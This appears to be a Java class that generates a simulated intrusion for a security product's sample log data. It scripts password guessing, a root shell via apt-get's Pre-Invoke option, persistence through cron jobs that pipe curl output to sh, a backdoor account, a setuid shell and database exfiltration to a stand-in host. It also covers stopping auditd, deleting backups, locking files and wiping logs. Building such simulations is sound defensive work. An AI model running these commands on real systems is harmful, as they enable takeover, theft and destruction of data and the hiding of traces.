package dev.yagura.sample;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Random;

/**
 * The story hidden in the sample day: passwords are guessed on the web server until one fits, root
 * is had by an option of apt, a way back is left, then the application server and the database are
 * visited, and the traces wiped.
 */
final class Intrusion {

  private static final String STRANGER = "203.0.113.66";
  private static final String DEPOT = "198.51.100.23";
  private static final List<String> NAMES =
      List.of(
          "admin", "root", "oracle", "ubuntu", "test", "jenkins", "backup", "git", "carol", "ftp",
          "support", "bob");
  private static final List<String> PRE_INVOKE =
      List.of("apt-get", "update", "-o", "APT::Update::Pre-Invoke::=/bin/sh");

  private final Machine web;
  private final Machine application;
  private final Machine database;
  private final Instant begin;

  Intrusion(Machine web, Machine application, Machine database, Random chance) {
    this.web = web;
    this.application = application;
    this.database = database;
    this.begin = web.start().plus(Duration.ofHours(14)).plusSeconds(chance.nextInt(3600));
  }

  void happens() {
    guess(begin);
    Act.Started root = takeWebServer(begin.plusSeconds(420));
    stay(root, begin.plusSeconds(700));
    takeApplicationServer(begin.plusSeconds(1500));
    destroyDatabase(begin.plusSeconds(3300));
    wipe(root, begin.plusSeconds(4100));
  }

  private void guess(Instant time) {
    Doors doors = new Doors(web);
    for (int i = 0; i < 48; i++) {
      String name = i < 24 ? NAMES.get(i % NAMES.size()) : "carol";
      boolean known = List.of("root", "carol", "bob").contains(name);
      doors.failedPassword(time.plusSeconds(8L * i), name, !known, STRANGER, 40_000 + 7 * i);
    }
  }

  private Act.Started takeWebServer(Instant time) {
    Doors doors = new Doors(web);
    Act.Started shell =
        doors.login(time, Person.CAROL, STRANGER, "password", Duration.ofMinutes(70));
    List<String> looks =
        List.of(
            "whoami", "id", "uname -a", "hostname", "last -n 20", "ps aux", "ss -tlnp", "ip addr");
    for (int i = 0; i < looks.size(); i++) {
      String program = "/usr/bin/" + looks.get(i).split(" ")[0];
      web.run(shell, time.plusSeconds(20 + 9L * i), program, looks.get(i));
    }
    web.run(shell, time.plusSeconds(110), "/usr/bin/cat", "cat /etc/passwd");
    Act.Started fetch =
        web.run(
            shell,
            time.plusSeconds(150),
            "/usr/bin/curl",
            "curl -fsSL http://" + DEPOT + "/k -o /dev/shm/.k");
    web.add(new Act.Connected(time.plusSeconds(151), fetch, 41_822, DEPOT, 80));
    web.add(new Act.FileMade(time.plusMillis(151_400), fetch, "/dev/shm/.k"));
    return rootShell(web, doors, shell, time.plusSeconds(200), Duration.ofMinutes(66));
  }

  /** The act that the product began with: apt is made to start a shell before it updates. */
  private static Act.Started rootShell(
      Machine machine, Doors doors, Act.Started shell, Instant time, Duration length) {
    Act.Started apt = doors.sudo(shell, time, "/usr/bin/apt-get", PRE_INVOKE, length);
    Act.Started root =
        machine.start(
            apt,
            time.plusMillis(310),
            Person.ROOT,
            shell.session(),
            shell.directory(),
            "/usr/bin/dash",
            List.of("/bin/sh"));
    machine.add(new Act.Ended(time.plus(length).minusMillis(20), root));
    return root;
  }

  private void stay(Act.Started root, Instant time) {
    web.run(root, time, "/usr/bin/cat", "cat /etc/shadow");
    web.run(
        root, time.plusSeconds(30), "/usr/sbin/useradd", "useradd -m -s /bin/bash -G sudo support");
    new Doors(web)
        .say(
            time.plusMillis(30_100),
            "useradd",
            web.pidAt(time.plusSeconds(30)),
            "new user: name=support, UID=1004, GID=1004, home=/home/support, shell=/bin/bash,"
                + " from=/dev/pts/2");
    file(root, time.plusSeconds(60), "/root/.ssh/authorized_keys");
    file(root, time.plusSeconds(90), "/etc/cron.d/sysstat-update");
    for (int hour = 1; hour <= 3; hour++) {
      Instant again = time.plusSeconds(3600L * hour);
      Act.Started job =
          new Doors(web).job(again, Person.ROOT, "curl -fsSL http://" + DEPOT + "/u | sh");
      Act.Started fetch =
          web.run(job, again.plusMillis(60), "/usr/bin/curl", "curl -fsSL http://" + DEPOT + "/u");
      web.add(new Act.Connected(again.plusMillis(90), fetch, 42_000 + hour, DEPOT, 80));
    }
    web.run(root, time.plusSeconds(150), "/usr/bin/find", "find / -name id_ed25519 -type f");
    Act.Started next =
        web.run(
            root,
            time.plusSeconds(790),
            "/usr/bin/ssh",
            "ssh -o StrictHostKeyChecking=no -i /home/deploy/.ssh/id_ed25519 deploy@10.0.4.31");
    web.add(new Act.Connected(time.plusMillis(790_200), next, 43_310, "10.0.4.31", 22));
  }

  private void takeApplicationServer(Instant time) {
    Doors doors = new Doors(application);
    Act.Started shell =
        doors.login(time, Person.DEPLOY, web.address(), "publickey", Duration.ofMinutes(40));
    application.run(shell, time.plusSeconds(20), "/usr/bin/id", "id");
    application.run(shell, time.plusSeconds(40), "/usr/bin/getent", "getent passwd");
    Act.Started root =
        rootShell(application, doors, shell, time.plusSeconds(80), Duration.ofMinutes(38));
    application.run(root, time.plusSeconds(120), "/usr/bin/cp", "cp /bin/bash /var/tmp/.b");
    Act.Started mode =
        application.run(root, time.plusSeconds(140), "/usr/bin/chmod", "chmod 4755 /var/tmp/.b");
    application.add(new Act.ModeChanged(time.plusMillis(140_020), mode, "/var/tmp/.b", 04755));
    Act.Started unit =
        application.run(
            root,
            time.plusSeconds(200),
            "/usr/bin/tee",
            "tee /etc/systemd/system/dbus-relay.service");
    application.add(
        new Act.FileMade(time.plusMillis(200_050), unit, "/etc/systemd/system/dbus-relay.service"));
    for (int i = 1; i <= 24; i++) {
      application.run(
          root, time.plusSeconds(300 + 3L * i), "/usr/bin/ping", "ping -c 1 -W 1 10.0.4." + i);
    }
    application.run(
        root,
        time.plusSeconds(600),
        "/usr/bin/ssh",
        "ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_ed25519 root@10.0.4.21");
    application.run(root, time.plusSeconds(900), "/usr/bin/systemctl", "systemctl stop auditd");
    application.add(
        new Act.Audited(
            time.plusSeconds(901),
            "DAEMON_END",
            "op=terminate auid=0 uid=0 ses=4294967295 pid=1 subj=unconfined res=success"));
    application.add(
        new Act.Audited(
            time.plusSeconds(4500),
            "DAEMON_START",
            "op=start ver=3.0.9 format=raw kernel=6.1.0-28-amd64 auid=4294967295 pid=28110 uid=0"
                + " ses=4294967295 subj=unconfined res=success"));
  }

  private void destroyDatabase(Instant time) {
    Doors doors = new Doors(database);
    Act.Started shell =
        doors.login(time, Person.ROOT, application.address(), "publickey", Duration.ofMinutes(12));
    database.run(
        shell,
        time.plusSeconds(30),
        "/usr/lib/postgresql/16/bin/pg_dump",
        "pg_dump -f /var/tmp/.d shop");
    Act.Started send =
        database.run(
            shell,
            time.plusSeconds(120),
            "/usr/bin/curl",
            "curl -sT /var/tmp/.d http://" + DEPOT + "/in");
    database.add(new Act.Connected(time.plusSeconds(121), send, 47_120, DEPOT, 80));
    database.run(shell, time.plusSeconds(260), "/usr/bin/systemctl", "systemctl stop postgresql");
    database.run(shell, time.plusSeconds(290), "/usr/bin/rm", "rm -rf /var/backups/pg");
    Act.Started lock =
        database.start(
            shell,
            time.plusSeconds(330),
            Person.ROOT,
            shell.session(),
            "/var/tmp",
            "/var/tmp/.x/lock",
            List.of("/var/tmp/.x/lock", "/srv/export"));
    for (int i = 1; i <= 40; i++) {
      String path = "/srv/export/2026/statement-%03d.csv".formatted(i);
      database.add(new Act.FileMade(time.plusMillis(330_400 + 90L * i), lock, path + ".locked"));
      database.add(new Act.FileRemoved(time.plusMillis(330_440 + 90L * i), lock, path));
    }
    database.add(new Act.Ended(time.plusSeconds(340), lock));
    database.run(
        shell, time.plusSeconds(400), "/usr/bin/rm", "rm -f /root/.bash_history /var/tmp/.d");
  }

  private void wipe(Act.Started root, Instant time) {
    web.run(root, time, "/usr/bin/truncate", "truncate -s 0 /var/log/auth.log");
    web.run(
        root,
        time.plusSeconds(20),
        "/usr/bin/bash",
        List.of("bash", "-c", "unset HISTFILE; rm -f /home/carol/.bash_history"));
    web.run(root, time.plusSeconds(20), "/usr/bin/rm", "rm -f /home/carol/.bash_history");
    Act.Started record = web.run(root, time.plusSeconds(40), "/usr/bin/rm", "rm -f /var/log/btmp");
    web.add(new Act.FileRemoved(time.plusMillis(40_010), record, "/var/log/btmp"));
  }

  private void file(Act.Started shell, Instant time, String path) {
    Act.Started tee = web.run(shell, time, "/usr/bin/tee", "tee -a " + path);
    web.add(new Act.FileMade(time.plusMillis(30), tee, path));
  }
}
